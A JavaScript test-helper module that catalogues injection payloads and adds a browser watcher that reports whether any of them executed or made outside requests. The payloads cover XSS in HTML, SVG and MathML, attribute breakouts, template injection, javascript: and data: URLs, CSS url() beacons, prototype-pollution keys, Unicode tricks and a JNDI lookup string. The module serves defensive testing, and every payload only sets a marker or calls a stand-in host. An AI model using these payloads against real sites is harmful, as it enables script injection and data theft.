/**
 * Texts that try to become more than text: in markup, in templates, in addresses, in style sheets, in JSON, in names of
 * members, on the screen. Every one that could run does the same thing, so that one look says whether any of them did: it
 * sets the global `MARK`, or asks an address that holds it.
 *
 *     const watched = await watch(page);      // before the page is opened
 *     await page.goto(address);
 *     …                                       // show a harmless event with the same findings
 *     await watched.settle();                 // what is there now is the page's own
 *     …                                       // show the payloads
 *     assert.deepEqual(await watched.ran(), []);
 */
export const MARK = 'cdran';

const RUN = `globalThis.${MARK}=1`;
const AWAY = `https://${MARK}.example`;
/** An address on the page's own origin, for policies that allow no other. */
const HERE = `/${MARK}`;

/** Elements that run by themselves, or fetch something, when they become elements. */
const HTML = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="${AWAY}/a.js"></script>`,
  `<script src="${HERE}.js"></script>`,
  `<script type=module>${RUN}</script>`,
  `<script/x>${RUN}</script/x>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>alert('${MARK}')</script>`,
  `<img src=${HERE} onerror=${RUN}>`,
  `<img src=x: onerror="${RUN}">`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img/src=x:/onerror=${RUN}>`,
  `<img srcset="${HERE}.png 1x" onload=${RUN}>`,
  `<img src="${AWAY}/pixel.gif">`,
  `<image src=x: onerror=${RUN}>`,
  `<picture><source srcset=x:><img src=x: onerror=${RUN}></picture>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<iframe src="javascript:parent.${MARK}=1"></iframe>`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
  `<iframe src="${HERE}.html">`,
  `<object data="${HERE}.html"></object>`,
  `<embed src="${HERE}.html">`,
  `<video src=x: onerror=${RUN}></video>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x: onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<button autofocus onfocus=${RUN}>`,
  `<p contenteditable autofocus onfocus=${RUN}>x</p>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<dialog open onclose=${RUN}>x</dialog>`,
  `<div popover id=p onbeforetoggle=${RUN}></div>`,
  `<p style="animation: x 1ms" onanimationend=${RUN}>x</p>`,
  `<p onpointerover=${RUN}>x</p>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="${AWAY}" ping="${HERE}">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<link rel=stylesheet href="${HERE}.css">`,
  `<link rel=prefetch href="${HERE}.txt">`,
  `<link rel=modulepreload href="${HERE}.js">`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv=refresh content="0;url=${HERE}.html">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<noscript><p title="</noscript><img src=x: onerror=${RUN}>">`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<slot onslotchange=${RUN}></slot>`,
  `<x-y is="cd-event-report" onclick=${RUN}>`,
  `<portal src="${HERE}.html">`,
  `<frameset onload=${RUN}>`,
  `<plaintext>`,
  `<xmp><script>${RUN}</script></xmp>`,
  `<title><img src=x: onerror=${RUN}></title>`,
  `<table background="${HERE}.png">`,
  `<b onclick=${RUN}>x</b>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x: onerror=${RUN}&#62;`,
  `&#x3c;svg onload=${RUN}&#x3e;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3csvg onload=${RUN}\\x3e`,
];

/** The same through SVG and MathML, whose elements follow other rules. */
const SVG = [
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${HERE}.js"></script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x to=y>`,
  `<svg><a href="javascript:${RUN}"><text x=1 y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"></animate><text>x</text></a></svg>`,
  `<svg><use href="${HERE}.svg#x"></use></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"></use></svg>`,
  `<svg><image href="${HERE}.png"></image></svg>`,
  `<svg><foreignObject><iframe src="javascript:parent.${MARK}=1"></iframe></foreignObject></svg>`,
  `<svg><style>*{background:url(${HERE}.png)}</style></svg>`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></desc></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><mtext><table><mglyph><style><img src=x: onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x: onerror=${RUN}></annotation-xml></math>`,
];

/** Break out of the place of a text in markup that is put together from strings. */
const BREAKERS = [
  `"><svg onload=${RUN}>`,
  `'><svg onload=${RUN}>`,
  `><svg onload=${RUN}>`,
  `" onfocus="${RUN}" autofocus="`,
  `' onfocus='${RUN}' autofocus='`,
  `" onmouseover=${RUN} x="`,
  ` onload=${RUN} `,
  `x" style="background:url(${HERE}.png)`,
  `</textarea><img src=x: onerror=${RUN}>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</code></p><img src=x: onerror=${RUN}>`,
  `</template><script>${RUN}</script>`,
  `</option></select><img src=x: onerror=${RUN}>`,
  `--><img src=x: onerror=${RUN}><!--`,
  `--!><img src=x: onerror=${RUN}>`,
  `]]><script>${RUN}</script>`,
  `<!--<img src="--><img src=x: onerror=${RUN}//">`,
  `<?lit$1$?><img src=x: onerror=${RUN}>`,
  `<!--?lit$0$--><script>${RUN}</script>`,
  `</cd-event-report><script>${RUN}</script>`,
  `';${RUN};'`,
  `";${RUN};"`,
  `\`;${RUN};\``,
  `'-${RUN}-'`,
  `"+(${RUN})+"`,
  `\\';${RUN};//`,
  `*/${RUN}/*`,
  `});${RUN};//`,
  `1;${RUN}`,
  `\`</code><img src=x: onerror=${RUN}>\``,
  `\`<script>${RUN}</script>\``,
];

/** What template languages would evaluate. */
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{${RUN}}}`,
  `{{{${RUN}}}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `<% ${RUN} %>`,
  `\${{ ${RUN} }}`,
  `@{${RUN}}`,
  `[[${RUN}]]`,
  `{%raw%}<script>${RUN}</script>`,
  `{${RUN}}`,
  `{{'a'.constructor.prototype.charAt=[].join;$eval('${RUN}')}}`,
  `{{_c.constructor('${RUN}')()}}`,
  `<p v-html="'<img src=x: onerror=${RUN}>'">`,
  `<p x-data x-init="${RUN}">`,
  `<p ng-app ng-init="${RUN}">`,
  `<p :title="${RUN}" @click="${RUN}">`,
  `\${html\`<script>\${'${RUN}'}</script>\`}`,
  `$(${RUN})`,
  `%{${RUN}}`,
  `*{${RUN}}`,
];

/** Addresses that run or reach out when they become a link, a picture or a place to go. */
const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript:alert('${MARK}')`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `jAvAsCrIpT&#58;${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${RUN}</script>`).toString('base64')}`,
  `data:text/javascript,${RUN}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `blob:${AWAY}/1`,
  `filesystem:${AWAY}/1`,
  `view-source:${AWAY}`,
  `about:blank#${MARK}`,
  `file:///etc/passwd?${MARK}`,
  `//${MARK}.example/x`,
  `\\\\${MARK}.example\\x`,
  `/\\${MARK}.example`,
  `https:${MARK}.example`,
  `http://user:pass@${MARK}.example/`,
  `https://example.com@${MARK}.example/`,
  `${AWAY}/\u202egnp.exe`,
  `ftp://${MARK}.example/`,
  `wss://${MARK}.example/`,
  `mailto:x@${MARK}.example?body=x`,
  `intent://${MARK}#Intent;scheme=http;end`,
  `feed:javascript:${RUN}`,
  `jar:${AWAY}!/x`,
  `#/rules/<img src=x: onerror=${RUN}>`,
  `../../../${MARK}`,
];

/** What a style sheet or a style attribute would obey. */
const STYLES = [
  `background:url(${HERE}.png)`,
  `}*{background:url(${AWAY}/x.png)}`,
  `@import url(${HERE}.css);`,
  `@import '${AWAY}/x.css';`,
  `expression(${RUN})`,
  `-moz-binding:url(${AWAY}/x.xml#x)`,
  `behavior:url(${HERE}.htc)`,
  `<style>*{background:url(${HERE}.png)}</style>`,
  `<style>@import '${HERE}.css'</style>`,
  `<p style="background:url(${HERE}.png)">x</p>`,
  `<style>@font-face{font-family:x;src:url(${HERE}.woff2)}*{font-family:x}</style>`,
  `;--accent:url(${HERE}.png)`,
  `:host{display:none}`,
  `position:fixed;inset:0;z-index:99999`,
  `<div style="position:fixed;inset:0;background:red">x</div>`,
  `var(--${MARK})`,
  `\\75\\72\\6c(${HERE}.png)`,
];

/** Names that objects already have, and texts that JSON or JavaScript would read in another way. */
const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  'then',
  '__defineGetter__',
  '__lookupSetter__',
  'isPrototypeOf',
  'innerHTML',
  'outerHTML',
  'onerror',
  'shadowRoot',
  'textContent',
  'style',
  'length',
  'null',
  'undefined',
  'NaN',
  '-0',
  '',
  ' ',
  '0',
  '[object Object]',
  `{"__proto__":{"${MARK}":1}}`,
  `constructor.prototype.${MARK}`,
  `__proto__[${MARK}]`,
  `a/b~c~0~1`,
  `/context/../${MARK}`,
  `"`,
  `\\`,
  `\\"`,
  `\\u0022,"${MARK}":"`,
  `","${MARK}":1,"x":"`,
  `}],"${MARK}":1//`,
  `\r\n${MARK}: 1`,
  `%0d%0a${MARK}:1`,
  `\u2028${RUN}`,
  `\u2029${RUN}`,
  `\u0085${RUN}`,
  `//\u2028${RUN}`,
  `<!--${RUN}`,
  `\ufeff${RUN}`,
];

/** Characters that steer, hide, turn around or pile up what is drawn. */
const LOOKS = [
  '\u0000',
  '\u0007\u0008\u001b[31m',
  `\u001b]8;;${AWAY}\u0007x\u001b]8;;\u0007`,
  `\u009b2J`,
  '\u202etxt.exe',
  '\u2066admin\u2069',
  '\u2067\u2068\u202a\u202b\u202c\u202d',
  '\u200e\u200f\u061c',
  '\u200b\u200c\u200d\u2060\ufeff',
  'va\u00adlid',
  '\u3164\u115f\u1160\uffa0',
  '\u180e\u034f',
  '\ufff9a\ufffab\ufffb',
  '\ufe0f\u20e3',
  '\u{e0041}\u{e007f}',
  '\ud83d',
  '\ude00\ud83d',
  '\ud83d\u0000',
  `Z${'\u0301'.repeat(60)}`,
  `${'\ufdfd'.repeat(20)}`,
  '\u{1f469}\u200d\u{1f4bb}',
  'е\u0301rror',
  'Ѵalid · 0 errors',
  '\u{10ffff}',
  '\ufffe\uffff',
  '\ue000',
  `\`${'`'.repeat(9)}`,
  '``',
  '`',
  `\`\`\`html\n<img src=x: onerror=${RUN}>\n\`\`\``,
  `[x](javascript:${RUN})`,
  `![x](${AWAY}/x.png)`,
  `<${AWAY}>`,
  '\t\t\t',
  '\r',
  '\n\n\n',
  `${'a'.repeat(2_000)}`,
  `${'<'.repeat(300)}`,
  `%s%d%n%c`,
  '${jndi:ldap://x}',
];

/** By kind; every text is of one kind only. */
export const GROUPS = {
  html: HTML,
  svg: SVG,
  breakers: BREAKERS,
  templates: TEMPLATES,
  schemes: SCHEMES,
  styles: STYLES,
  names: NAMES,
  looks: LOOKS,
};

/** All of them, each once. */
export const PAYLOADS = [...new Set(Object.values(GROUPS).flat())];

/**
 * Notes what a page does that a text must not make it do: dialogs, windows, ways elsewhere, requests to other origins or to a
 * payload's address, the global, members on every object, and, once it has settled, new globals and new kinds of elements
 * in the document or any open shadow root. Call it before the page is opened. `also`: origins that it may ask, too.
 */
export async function watch(page, { also = [] } = {}) {
  const noted = new Set();
  let origin;
  let address;
  page.on('dialog', (dialog) => {
    noted.add(`a dialog: ${dialog.type()} ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => noted.add(`a window: ${popup.url()}`));
  page.on('download', (download) => noted.add(`a download: ${download.url()}`));
  page.on('request', (request) => {
    const url = request.url();
    if (request.isNavigationRequest() && request.frame() === page.mainFrame()) {
      origin ??= new URL(url).origin;
      address ??= url.split('#')[0];
      if (url.split('#')[0] !== address) noted.add(`a way elsewhere: ${url}`);
    }
    if (url.includes(MARK) || (origin !== undefined && ![origin, ...also].includes(new URL(url).origin)))
      noted.add(`a request: ${url.slice(0, 200)}`);
  });
  page.on('frameattached', () => noted.add('a frame'));
  let own = null;

  const lookOnce = () =>
    page.evaluate((mark) => {
      const kinds = new Set();
      const wrong = [];
      const visit = (root) => {
        for (const element of root.querySelectorAll('*')) {
          const inSvg = element.namespaceURI === 'http://www.w3.org/2000/svg';
          kinds.add(`${inSvg ? 'svg ' : ''}${element.localName}`);
          for (const { name, value } of element.attributes) {
            if (/^on/i.test(name)) wrong.push(`${element.localName} with ${name}`);
            if (
              /^(?:href|src|srcset|action|formaction|data|ping|xlink:href)$/i.test(name) &&
              (/^[\s\u0000-\u001f]*(?:javascript|vbscript|data|blob):/i.test(value) ||
                (value.includes(mark) && !value.startsWith('#')))
            ) {
              wrong.push(`${element.localName} with ${name}=${value.slice(0, 100)}`);
            }
          }
          if (element.localName === 'script' && element.textContent.includes(mark)) wrong.push('a script');
          if (element.shadowRoot !== null) visit(element.shadowRoot);
        }
      };
      visit(document);
      const global =
        Object.hasOwn(globalThis, mark) ||
        mark in Object.prototype ||
        mark in Array.prototype ||
        mark in Function.prototype;
      // One text comes much faster than a list of a thousand.
      const globals = Object.getOwnPropertyNames(globalThis).join('\n');
      return { kinds: [...kinds], globals, wrong, global };
    }, MARK);

  /** A page that goes elsewhere meanwhile is looked at where it came to. */
  const look = async () => {
    for (let tries = 1; ; tries += 1) {
      try {
        const { globals, ...rest } = await lookOnce();
        return { ...rest, globals: globals.split('\n') };
      } catch (error) {
        if (tries === 5 || !/context was destroyed|navigation/i.test(String(error))) throw error;
        await page.waitForLoadState();
      }
    }
  };

  return {
    /** From now on new globals and new kinds of elements are reported. */
    async settle() {
      const { kinds, globals } = await look();
      own = {
        kinds: new Set([...(own?.kinds ?? []), ...kinds]),
        globals: new Set([...(own?.globals ?? []), ...globals]),
      };
    },
    /** What was noted, in words; nothing when all stayed text. */
    async ran() {
      const { kinds, globals, wrong, global } = await look();
      if (global) noted.add(`the global ${MARK}`);
      for (const one of wrong) noted.add(one);
      if (own !== null) {
        for (const kind of kinds) if (!own.kinds.has(kind)) noted.add(`an element: ${kind}`);
        for (const name of globals) if (!own.globals.has(name)) noted.add(`a global: ${name}`);
      }
      return [...noted];
    },
  };
}
